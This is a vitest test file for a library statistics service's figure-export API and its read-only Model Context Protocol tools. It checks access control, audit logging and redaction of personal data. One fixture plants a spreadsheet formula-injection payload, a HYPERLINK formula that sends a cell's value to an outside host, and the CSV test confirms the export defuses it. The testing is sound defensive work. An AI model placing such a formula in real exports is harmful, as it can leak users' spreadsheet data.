import type { AddressInfo } from 'node:net'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import { packLibrary } from '@shishu/pack-library'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import {
  COUNTY,
  OTHER_VILLAGE,
  SECOND_TOWN,
  startTestServer,
  type TestServer,
  TOWN,
  VILLAGE,
} from '../../test/server-fixture.ts'
import { takeFigures } from '../exchange/figure-rows.ts'

/** An indicator whose words a spreadsheet would compute. */
const HOSTILE = '=HYPERLINK("http://example.com?"&A1,"到馆")'
const pack = {
  ...packLibrary,
  indicators: packLibrary.indicators.map((one) => (one.id === 'visitors' ? { ...one, label: HOSTILE } : one)),
}
const NOW = '2026-04-05T02:00:00.000Z'

let on: TestServer
beforeAll(async () => {
  on = await startTestServer({ pack, clock: () => new Date(NOW), checksResponses: true })
  const lend = (orgUnit: string, slip: string, lentOn: string) =>
    on.ask('keeper', 'POST', `/api/towns/${TOWN}/bookings`, {
      request: `request-${slip}`,
      changes: [{ kind: 'add', ledger: 'loans', orgUnit, values: { slip, reader: '张三丰', lentOn } }],
    })
  expect((await lend(VILLAGE, 'A-1', '2026-02-02')).status).toBe(201)
  expect((await lend(OTHER_VILLAGE, 'A-2', '2026-03-20')).status).toBe(201)
  await on.settled()
})
afterAll(() => on?.stop())

const get = (who: string | null, url: string) => on.ask(who, 'GET', url)
const FIGURES = '/api/exchange/figures'

describe('figures for other programs', () => {
  test('each figure says what it means, of which moment it is and by which seal', async () => {
    const { body, status, text } = await get(
      'librarian',
      `${FIGURES}.json?indicators=loans-out,visitors&org=${TOWN},${VILLAGE}&period=2026-02,2026-03`,
    )
    expect(status, text).toBe(200)
    expect(body.rows).toHaveLength(8)
    const [first] = body.rows
    expect(first).toMatchObject({ indicator: 'loans-out', label: '在借', org: TOWN, orgName: '青石镇', value: 1 })
    expect(first.definition).toContain('借阅')
    expect(first.definitions).toBe(on.book.definitionsId)
    expect(first.seal).toMatch(/^[0-9a-f]{64}$/)
    expect(new Set(body.rows.map((row: { asOf: string; seal: string }) => `${row.asOf} ${row.seal}`)).size).toBe(1)
    expect(body.rows[1]).toMatchObject({ indicator: 'visitors', value: null, text: '—' })
    expect(body.rows[1].absent).toContain('没有')
    // Taken again as of the same moment, all is the same.
    const query = `indicators=loans-out,visitors&org=${TOWN},${VILLAGE}&period=2026-02,2026-03&asOf=${body.asOf}`
    expect((await get('librarian', `${FIGURES}.json?${query}`)).body).toEqual(body)
  })

  test('all of it is one reading, however many the places and periods', async () => {
    const connect = vi.spyOn(on.book.pool, 'connect')
    const snapshots = () => connect.mock.calls.length
    const asked = { indicators: ['loans-out', 'visitors'], asOf: NOW, language: 'zh' } as const
    await takeFigures(on.book, { ...asked, orgUnits: [VILLAGE], periods: ['2026-02'] })
    const one = snapshots()
    const periods = ['2026-01', '2026-02', '2026-03']
    const { rows } = await takeFigures(on.book, { ...asked, orgUnits: [TOWN, VILLAGE, OTHER_VILLAGE], periods })
    expect(rows).toHaveLength(18)
    expect(snapshots() - one).toBe(one)
    connect.mockRestore()
  })

  test('a report’s figures, and in English where that is asked for', async () => {
    const url = `${FIGURES}.json?report=half-year&org=${TOWN}&period=2026-H1`
    const { body } = await on.ask('librarian', 'GET', url, undefined, { headers: { 'accept-language': 'en' } })
    const ids = body.rows.map(({ indicator }: { indicator: string }) => indicator)
    expect(ids).toEqual(['visitors', 'visitors-growth', 'loans-out', 'in-time-rate'])
    expect(body.rows[0].absent).toMatch(/^[\x20-\x7e]*".*"[\x20-\x7e]*$/)
  })

  test('as CSV: a mark for spreadsheets, one line a figure, no cell that computes', async () => {
    const answer = await get('clerk', `${FIGURES}.csv?indicators=visitors,loans-out&org=${VILLAGE}&period=2026-03`)
    expect(answer.status, answer.text).toBe(200)
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(answer.headers['content-disposition']).toMatch(/^attachment; /)
    expect(answer.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    const lines = answer.text.split('\r\n')
    expect(lines).toHaveLength(4)
    expect(lines[0]).toContain('指标编号 indicator,指标 label,口径 definition')
    expect(lines[1]).toContain(`visitors,"'=HYPERLINK(""http://example.com?""&A1,""到馆"")",`)
    expect(lines[2]).toMatch(/^loans-out,在借,/)
  })

  test.each([
    // who         where                    → status
    ['clerk', VILLAGE, 200],
    ['clerk', TOWN, 403],
    ['clerk', `${VILLAGE},${OTHER_VILLAGE}`, 403],
    ['librarian', `${TOWN},${VILLAGE}`, 200],
    ['librarian', SECOND_TOWN, 403],
    ['stranger', TOWN, 403],
    ['county', `${COUNTY},${SECOND_TOWN}`, 200],
    ['sysadmin', TOWN, 403],
    ['auditor', TOWN, 403],
    ['idle', TOWN, 403],
    [null, TOWN, 401],
  ])('%s takes figures of %s: %i', async (who, org, status) => {
    for (const form of ['json', 'csv']) {
      const { status: given } = await get(who, `${FIGURES}.${form}?indicators=loans-out&org=${org}&period=2026-03`)
      expect(given, form).toBe(status)
    }
  })

  test.each([
    [`org=${TOWN}&period=2026-03`, 400],
    [`indicators=loans-out&report=half-year&org=${TOWN}&period=2026-H1`, 400],
    [`indicators=nothing&org=${TOWN}&period=2026-03`, 404],
    [`report=nothing&org=${TOWN}&period=2026-03`, 404],
    [`indicators=loans-out&org=${TOWN}&period=2026-99`, 400],
    [`indicators=loans-out&org=${TOWN}&period=2026-03&asOf=yesterday!!`, 400],
    [`indicators=loans-out&org=${TOWN}&period=2026-03&more=1`, 400],
  ])('%s is refused with %i', async (query, status) => {
    for (const form of ['json', 'csv'])
      expect((await get('librarian', `${FIGURES}.${form}?${query}`)).status).toBe(status)
  })

  test('the catalogue', async () => {
    const { body, status } = await get('idle', '/api/exchange/indicators.json')
    expect([status, body.indicators.length]).toEqual([200, packLibrary.indicators.length])
    const rate = body.indicators.find(({ id }: { id: string }) => id === 'in-time-rate')
    expect(rate).toMatchObject({ unit: '%', formula: 'flow(loans.backInTime) / flow(loans.back)' })
    expect(rate.words.zh).toContain('按期归还')
    expect((await get(null, '/api/exchange/indicators.json')).status).toBe(401)
  })
})

describe('the Model Context Protocol', () => {
  let address: URL
  beforeAll(async () => {
    await on.app.listen({ host: '127.0.0.1', port: 0 })
    address = new URL(`http://127.0.0.1:${(on.app.server.address() as AddressInfo).port}/mcp`)
  })

  const connected = async <T>(who: string, work: (client: Client) => Promise<T>): Promise<T> => {
    const client = new Client({ name: 'test', version: '1' })
    const headers = { 'x-shishu': '1', 'x-test-person': who }
    await client.connect(new StreamableHTTPClientTransport(address, { requestInit: { headers } }) as never)
    // Listing first makes the client check every answer against the tool's schema.
    await client.listTools()
    try {
      return await work(client)
    } finally {
      await client.close()
    }
  }
  interface Called {
    isError?: boolean
    text: string
    // biome-ignore lint/suspicious/noExplicitAny: tests look into answers of every shape.
    data: any
  }
  const call = (who: string, name: string, input: object): Promise<Called> =>
    connected(who, async (client) => {
      const answer = await client.callTool({ name, arguments: input as Record<string, unknown> })
      const [first] = answer.content as { text: string }[]
      return { isError: answer.isError === true, text: first!.text, data: answer.structuredContent }
    })

  test('every tool reads, and says so in both languages', async () => {
    const { tools } = await connected('librarian', (client) => client.listTools())
    const names = ['find_indicators', 'find_org_units', 'read_figures', 'explain_figure', 'list_due']
    expect(tools.map(({ name }) => name)).toEqual(names)
    for (const { description, annotations, outputSchema } of tools) {
      expect(description).toMatch(/\p{Script=Han}.*\n[\x20-\x7e’]+$/u)
      expect(annotations).toMatchObject({ readOnlyHint: true, destructiveHint: false })
      expect(outputSchema).toBeDefined()
    }
  })

  test('finds indicators and places, and says which are the asker’s to read', async () => {
    const found = await call('clerk', 'find_indicators', { text: '归还率' })
    expect(found.data).toMatchObject({ found: 1, indicators: [{ id: 'in-time-rate', unit: '%' }] })
    const units = await call('clerk', 'find_org_units', { name: '村', within: TOWN })
    expect(units.data.units).toEqual([
      { code: VILLAGE, name: '上村', level: 'village', readable: true },
      { code: OTHER_VILLAGE, name: '下村', level: 'village', readable: false },
    ])
  })

  test('reads figures, now and as of a day', async () => {
    const asked = { indicators: ['loans-out', 'visitors'], org: TOWN, period: '2026-03' }
    const now = await call('librarian', 'read_figures', asked)
    expect(now.data.rows).toMatchObject([{ value: 2 }, { value: null, text: '—' }])
    expect(JSON.parse(now.text)).toEqual(now.data)
    const before = await call('librarian', 'read_figures', { ...asked, asOf: '2026-01-31' })
    expect(before.data.rows[0]).toMatchObject({ value: null, text: '—' })
  })

  test('explains a figure by entries that add up to it, without personal values', async () => {
    const asked = { indicator: 'loans-out', org: TOWN, period: '2026-03' }
    const { data, text } = await call('librarian', 'explain_figure', asked)
    const [input] = data.inputs
    expect(input.contributions.reduce((sum: number, { amount }: { amount: number }) => sum + amount, 0)).toBe(2)
    expect([input.amount, input.count]).toEqual([2, 2])
    expect(input.contributions[0].summary).toContain('A-1')
    expect(text).not.toContain('张三丰')
    // Whoever may not read the ledger sees how many there are, and nothing of what they say.
    const shelves = await call('shelves', 'explain_figure', asked)
    expect(shelves.data.inputs[0]).toMatchObject({ contributions: [], others: { count: 2, amount: 2 } })
  })

  test('lists what is due, without personal values', async () => {
    const { data, text } = await call('keeper', 'list_due', { org: TOWN })
    expect(data).toMatchObject({ on: '2026-04-05', found: 2, cases: [{ ledger: 'loans', status: 'overdue' }, {}] })
    expect(text).not.toContain('张三丰')
    const shelves = await call('shelves', 'list_due', { org: TOWN })
    expect(JSON.stringify(shelves.data)).not.toContain('A-1')
  })

  test.each([
    // who       tool             input                                                          → refusal
    ['stranger', 'read_figures', { indicators: ['loans-out'], org: TOWN, period: '2026-03' }, 'access.refused'],
    ['clerk', 'read_figures', { indicators: ['loans-out'], org: TOWN, period: '2026-03' }, 'access.refused'],
    ['clerk', 'explain_figure', { indicator: 'loans-out', org: OTHER_VILLAGE, period: '2026-03' }, 'access.refused'],
    ['stranger', 'list_due', { org: TOWN }, 'access.refused'],
    ['sysadmin', 'list_due', { org: TOWN }, 'access.refused'],
    ['idle', 'read_figures', { indicators: ['loans-out'], org: TOWN, period: '2026-03' }, 'access.refused'],
    ['librarian', 'read_figures', { indicators: ['nothing'], org: TOWN, period: '2026-03' }, 'indicator.unknown'],
    ['librarian', 'read_figures', { indicators: ['loans-out'], org: TOWN, period: '2026-99' }, 'period.malformed'],
    ['librarian', 'read_figures', { indicators: [], org: TOWN, period: '2026-03' }, 'request.malformed'],
    ['librarian', 'list_due', { org: TOWN, sql: 'drop' }, 'request.malformed'],
    ['librarian', 'list_due', { org: TOWN, on: 'someday' }, 'request.malformed'],
    ['librarian', 'find_org_units', { within: '341899999000' }, 'org-unit.unknown'],
    ['librarian', 'book_entries', {}, 'mcp.tool-unknown'],
  ])('%s calls %s with %j and is told why not: %s', async (who, name, input, code) => {
    const before = on.audited.length
    const { isError, text, data } = await call(who, name, input)
    expect([isError, text.split('\n')[0], data]).toEqual([true, code, undefined])
    expect(text).toMatch(/\p{Script=Han}/u)
    const lines = on.audited.slice(before).filter(({ details }) => details !== undefined)
    expect(lines).toMatchObject([{ name: who, outcome: 'refused', code }])
  })

  test('what is read is in the audit log, with the place', async () => {
    const before = on.audited.length
    await call('librarian', 'list_due', { org: VILLAGE })
    expect(on.audited.slice(before)).toContainEqual(
      expect.objectContaining({
        act: 'figure.read',
        name: 'librarian',
        orgUnit: VILLAGE,
        details: { tool: 'list_due' },
      }),
    )
  })

  const post = (headers: Record<string, string>, body: unknown) =>
    fetch(address, {
      method: 'POST',
      headers: { accept: 'application/json, text/event-stream', 'content-type': 'application/json', ...headers },
      body: JSON.stringify(body),
    })
  const ping = { jsonrpc: '2.0', id: 1, method: 'ping' }

  test.each([
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, ping, 200],
    [{ 'x-shishu': '1' }, ping, 401],
    [{ 'x-test-person': 'idle' }, ping, 403],
    [{ 'x-shishu': '1', 'x-test-person': 'idle', origin: 'https://elsewhere.example' }, ping, 403],
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, [ping, ping], 400],
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, { method: 'ping' }, 400],
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, { ...ping, method: 'tools/call', params: 'x' }, 400],
    [{ 'x-shishu': '1', 'x-test-person': 'idle', accept: 'text/html' }, ping, 200],
    [{ 'x-shishu': '1', 'x-test-person': 'idle', 'mcp-protocol-version': '1999-01-01' }, ping, 400],
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, { ...ping, method: 'tools/call', params: {} }, 200],
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, { ...ping, method: 'resources/list' }, 200],
    [{ 'x-shishu': '1', 'x-test-person': 'idle' }, { jsonrpc: '2.0', method: 'notifications/initialized' }, 202],
  ])('a message with %j, %j: %i', async (headers, body, status) => {
    const answer = await post(headers as Record<string, string>, body)
    expect(answer.status, await answer.text()).toBe(status)
  })

  test('nothing is pushed and no session kept', async () => {
    for (const method of ['GET', 'DELETE']) {
      const answer = await fetch(address, { method, headers: { 'x-shishu': '1', 'x-test-person': 'idle' } })
      expect([answer.status, answer.headers.get('allow')]).toEqual([405, 'POST'])
    }
  })
})
